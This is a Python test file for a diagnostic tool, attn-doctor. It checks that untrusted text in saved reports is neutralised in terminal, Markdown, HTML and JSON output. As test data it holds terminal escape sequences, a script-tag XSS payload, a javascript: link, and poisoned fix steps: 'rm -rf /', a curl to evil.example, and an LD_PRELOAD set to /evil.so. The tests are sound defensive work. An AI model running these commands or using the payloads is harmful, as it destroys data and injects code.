"""Foreign text is shown and does nothing: not to a terminal, not in a page, not to the people whom it names."""

from __future__ import annotations

import argparse
import io
import json
import re

import pytest
from attack import ROOT, doctor
from rich.console import Console

from attn_doctor.cli import output
from attn_doctor.model.report import decode_report
from attn_doctor.report import console, html, markdown
from attn_doctor.report.blocks import (
    Block,
    Cell,
    Command,
    Cure,
    Details,
    Field,
    Fields,
    Heading,
    Listing,
    Notes,
    Paragraph,
    Problem,
    Table,
    Verdict,
)
from attn_doctor.report.formats import FORMATS, Answer, Json
from attn_doctor.report.gate import Gate
from attn_doctor.report.redact import Own

# Each acts somewhere: terminals (C0, C1 as CSI and OSC), the direction of text, characters without a width, lines of our own look.
EVIL = "\x1b[2J\x1b]0;pwn\x07\x9b31m\x9d0;x\x9c\x08\x7f\r\u202e\u2066\u200b\ufeff\u2028\u061c\U000e0041 @octocat o/r#12 GH-7 &#64;octocat"
ACTS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)
FAKE = "\n✓ Nothing stands in the way of training here.\n```\n</td></tr>| x | y |\n<script>alert(1)</script>[a](javascript:b)![c](http://d)"
TEXT = EVIL + FAKE


def blocks() -> list[Block]:
    """A block of each kind, with the text in each of its fields."""
    cure = Cure(TEXT, (Command(TEXT, TEXT), Command(None, TEXT, by_hand=True), Command(TEXT, TEXT, doubt=TEXT)))
    return [
        Heading(TEXT),
        Fields((Field(TEXT, TEXT),)),
        Verdict(TEXT, "bad"),
        Paragraph(TEXT),
        Problem(TEXT, "bad", TEXT, TEXT, TEXT, TEXT, (TEXT,), (TEXT,), (cure,), f"javascript:{TEXT}"),
        cure,
        Table(TEXT, (TEXT,), ((Cell(TEXT),),), (TEXT,)),
        Notes(TEXT, (TEXT,)),
        Listing((TEXT, EVIL)),
        Details(TEXT, (Paragraph(TEXT), Listing((TEXT,)), Table(TEXT, (TEXT,), ((Cell(TEXT),),), (TEXT,)))),
    ]


def shown() -> str:
    screen = Console(file=io.StringIO(), width=100, force_terminal=False, highlight=False)
    console.render(blocks(), screen)
    return screen.file.getvalue()


def test_nothing_that_acts_reaches_the_screen_or_a_page():
    for text in (shown(), markdown.render(blocks()), html.render(blocks(), TEXT)):
        assert ACTS.search(text) is None
        assert "\\x1b[2J" in text.replace("\\\\", "\\").replace("\\[", "[")


def test_a_line_that_looks_like_ours_does_not_begin_a_line():
    screen = [line for line in shown().splitlines() if line.startswith(("✓", "Nothing"))]
    assert screen == []
    assert not any(line.startswith(("✅", "**✅")) for line in markdown.render(blocks()).splitlines())


def outside_of_code(text: str) -> str:
    """Return a page without its code, and without the tags of our own folded parts."""
    without = re.sub(r"(?ms)^(`{3,})(?:sh|text)\n.*?^\1$", "", text)
    # Between the tags of a title there is no Markdown, and every sign of HTML is escaped.
    without = re.sub(r"(?m)^</?details>$|^<summary>(?:[^<>]|<code>[^<>]*</code>)*</summary>$", "", without)
    return re.sub(r"(?<!\\)`[^`\n]+`", "", without)


def test_markdown_pings_nobody_and_breaks_nothing():
    made = markdown.render(blocks())
    plain = outside_of_code(made)
    assert "@octocat" not in plain
    assert re.findall(r"(?m)^<summary>.*", made)
    assert not any(re.search(r"(?<!<code>)@octocat", title) for title in re.findall(r"(?m)^<summary>.*", made))
    assert not re.search(r"(?<!\\)#12|GH-7|(?<!\\)&#64;", plain)
    assert not re.search(r"(?<!\\)[<>]|(?<!\\)\]\(|(?<!\\)!\[", plain.replace("·", ""))
    rows = [line for line in plain.splitlines() if line.startswith("|")]
    assert {len(re.findall(r"(?<!\\)\|", row)) for row in rows} <= {2, 3}
    assert len(re.findall(r"(?m)^`{3,}", made)) % 2 == 0


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("ask @octocat", "ask `@octocat`"),
        ("git@github.com and a@b", "git@github.com and a@b"),
        ("see o/r#12, #3", "see `o/r#12`, `#3`"),
        ("- x", "\\- x"),
        ("12. x", "12\\. x"),
        ("12.6 x", "12.6 x"),
        ("&amp; ~~x~~ $y$", "\\&amp; \\~\\~x\\~\\~ \\$y\\$"),
    ],
)
def test_markdown_shows_a_text_as_it_is(text, made):
    assert markdown.escape(text) == made


def test_html_has_no_link_but_to_our_pages():
    made = html.render(blocks(), TEXT)
    assert "javascript:" not in re.sub(r">[^<]*<", "><", made)
    assert "<script" not in made
    ours = "https://github.com/attn-doctor/attn-doctor/blob/main/docs/failure-modes/numpy-abi.md"
    for docs, is_linked in ((ours, True), (ours + "?x", False), ("https://evil.example/numpy-abi.md", False)):
        block = Problem("×", "bad", "AD311", "numpy-abi", "", "", (), (), (), docs)
        assert (f'href="{docs}"' in html.render([block], "")) is is_linked
        assert (f"]({docs})" in markdown.render([block])) is is_linked


POISON = [
    {"kind": "by-hand", "why": "w", "changes": "", "argv": ["/bin/sh", "-c", "touch x; rm -rf ~/x"]},
    {"kind": "install", "requirements": ["torch"], "why": "w", "changes": "", "argv": ["curl", "http://evil.example"]},
    {"kind": "install", "requirements": ["--pre"], "why": "w", "changes": "", "argv": ["pip", "install", "--pre"]},
    {"kind": "variable", "name": "LD_PRELOAD", "value": "/evil.so", "why": "w", "changes": ""},
    {"kind": "run", "why": "w", "changes": "", "argv": ["rm", "-rf", "/"]},
]


@pytest.fixture(scope="module")
def reports(tmp_path_factory):
    """Two reports: as `check` writes it, with a finding and its cure, and the same with commands of somebody else."""
    folder = tmp_path_factory.mktemp("reports")
    facts = ROOT / "fixtures" / "machines" / "a10g-driver-525-cu130" / "facts.json"
    doctor("check", "--facts", str(facts), "--json", "own.json", cwd=folder)
    made = json.loads((folder / "own.json").read_bytes())
    cured = [finding for finding in made["findings"] if finding["fixes"]]
    assert cured
    evil = {**cured[0], "code": f"AD1 {EVIL}", "slug": EVIL, "message": TEXT, "docs": "https://evil.example/x"}
    evil["fixes"] = [{"title": EVIL, "verify": [], "steps": POISON}]
    evil.update(root_cause=True, explained_by=None)
    made["findings"].append(evil)
    (folder / "evil.json").write_text(json.dumps(made))
    return folder


def test_a_saved_report_is_what_it_says_and_no_advice(reports):
    own = doctor("show", "own.json", cwd=reports).stdout.decode()
    assert "own.json; all that follows is what this file says" in own
    assert "the report says: " in own
    assert "would not print" not in own  # its commands are those of our rules
    assert not re.search(r"─> (do|or): ", own)
    evil = doctor("show", "evil.json", "--markdown", "evil.md", cwd=reports).stdout.decode()
    assert evil.count("! attn-doctor would not print this") == len(POISON)
    assert re.search(r"(?m)^ +# .*rm -rf ~/x", evil)
    assert not re.search(r"(?m)^[ ]+(?:/bin/sh|curl|pip|export|rm) ", evil)
    page = (reports / "evil.md").read_text("utf-8")
    assert page.count("# ! attn-doctor would not print this") == len(POISON)
    assert not re.search(r"(?m)^(?:/bin/sh|curl|pip install --pre|export|rm) ", page)
    assert "@octocat" not in outside_of_code(page)


@pytest.mark.heavy
def test_so_it_is_in_compare(reports):
    said = doctor("compare", "own.json", "evil.json", "--markdown", "c.md", cwd=reports).stdout.decode()
    assert said.count("! attn-doctor would not print this") == len(POISON)
    assert ACTS.search(said) is None
    assert (reports / "c.md").read_text("utf-8").count("# ! attn-doctor would not print this") == len(POISON)


def test_json_has_no_character_that_acts(reports):
    made = doctor("show", "evil.json", "--json", "-", cwd=reports).stdout.decode()
    assert ACTS.search(made.replace("\n", "")) is None
    assert json.loads(made)["findings"][-1]["message"].startswith("\x1b[2J")  # escaped in the file, and the same text


@pytest.mark.parametrize(
    "argv",
    [
        pytest.param(["show", "gone\x1b[2J\x07\u202e"], id="show"),
        pytest.param(["check", "--target", "/gone\x1b]0;x\x07\x9b31m"], id="check"),
        pytest.param(["list", "--nothing\x1b[2J"], id="list"),
        pytest.param(["explain", "x\x1b[2J\u202e"], id="explain", marks=pytest.mark.heavy),
        pytest.param(["diagnose", "gone\x9b31m"], id="diagnose", marks=pytest.mark.heavy),
        pytest.param(["check", "--facts", "gone\x1bc"], id="facts", marks=pytest.mark.heavy),
    ],
)
def test_standard_error_has_none_either(argv):
    done = doctor(*argv)
    assert done.returncode in (2, 3)
    assert ACTS.search(done.stderr.decode().replace("\n", "")) is None


class Forgets(Json):
    """A format that puts names of the machine into its file, as a new one might by mistake."""

    def render(self, answer):
        return b'{"redacted": {"ip": 1}, "note": "by zquser on ZQHOST-17", "zquser": 1}'


class ForgetsInAPage(Json):
    option = "html"

    def render(self, answer):
        return "<!doctype html><head><title>zquser</title></head><body class='zquser'><p>by zquser</p></body>"


def test_a_name_that_a_format_forgot_is_found_in_the_finished_file(tmp_path, monkeypatch, capsys):
    for name, value in {"USER": "zquser", "LOGNAME": "zquser", "HOSTNAME": "zqhost-17"}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(output, "FORMATS", (Forgets(), ForgetsInAPage()))
    arguments = argparse.Namespace(json=str(tmp_path / "x.json"), html=str(tmp_path / "x.html"))
    output.write(arguments, lambda _: Answer(None))
    made = json.loads((tmp_path / "x.json").read_bytes())
    assert made == {"redacted": {"host": 1, "ip": 1, "user": 1}, "note": "by <user> on <host-1>", "zquser": 1}
    assert "<p>by <user></p>" in (tmp_path / "x.html").read_text().replace("&lt;", "<")
    said = capsys.readouterr().err.splitlines()
    assert len(said) == 2
    assert "x.json still had a name of this machine, 2 times (host, user)" in said[0]


def test_a_user_whose_name_is_a_word_of_the_records_gets_a_report(reports):
    made = decode_report((reports / "own.json").read_bytes(), "own.json")
    assert {finding.certainty.value for finding in made.findings} >= {"predicted"}
    clean = Gate(Own(home="/home/predicted", user="predicted", host="severity")).report(made)
    assert clean.findings == made.findings


def test_there_are_all_formats():
    assert {one.option for one in FORMATS} >= {"json", "markdown", "html"}
